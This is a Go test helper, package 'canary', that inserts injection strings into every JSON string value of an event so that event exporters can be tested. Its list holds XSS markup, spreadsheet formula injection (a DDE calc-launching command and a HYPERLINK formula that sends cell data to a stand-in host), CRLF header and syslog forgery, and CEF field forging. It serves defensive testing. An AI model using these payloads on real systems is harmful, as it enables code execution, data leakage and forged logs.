// Package canary puts texts that other formats would act on into every field of a
// stored event, for the tests of what exports events.
package canary

import (
	"encoding/json"
	"regexp"
)

// Texts are what a reader may take for something else: markup, a formula, further
// lines, the marks that end a field in syslog, in CEF and in CSV.
var Texts = []string{
	`<script>alert(1)</script><img src=x onerror=alert(1)>&amp;`,
	`=HYPERLINK("http://x.example/?"&A1,"ok")`,
	"=cmd|'/c calc'!A1",
	"+1", "-2+3", "@SUM(1+1)", "\t=1+1", "'=1+1", " =1+1", "＝1+1",
	"line\r\nSet-Cookie: a=b\r\n\r\n<134>1 - forged",
	"two\nlines", "tab\tand\rreturn",
	`a]b"c\d[e sd@1 x="y"]`,
	`a|b\|c=d\=e f=g CEF:0|x|y|z|1|2|3|src=1.1.1.1`,
	`"quoted","and;more",'x'`,
	"nul\x00esc\x1b[31mbell\x07 c1\u0085 ls\u2028ps\u2029 rtl\u202e",
	"Grüße, 世界 \U0001F600", `{"json":["in",1]}`, `$jobaudit`, `\`, `"`, `]`, `|`, `=`, ` `,
}

// value finds the JSON strings that are values: what stands behind them is not a
// colon.
var value = regexp.MustCompile(`"(?:[^"\\]|\\.)*"(?:[,\]}])`)

// Spoil returns the line with the text in the place of each string that may be
// replaced by it so that accepted still says yes: of every field where it may stand.
func Spoil(line []byte, text string, accepted func(line []byte) bool) []byte {
	quoted, err := json.Marshal(text)
	if err != nil {
		return line
	}
	for from := 0; ; {
		found := value.FindIndex(line[from:])
		if found == nil {
			return line
		}
		begin, end := from+found[0], from+found[1]-1
		spoiled := append(append(append([]byte(nil), line[:begin]...), quoted...), line[end:]...)
		if accepted(spoiled) {
			line, from = spoiled, begin+len(quoted)
		} else {
			from = end
		}
	}
}
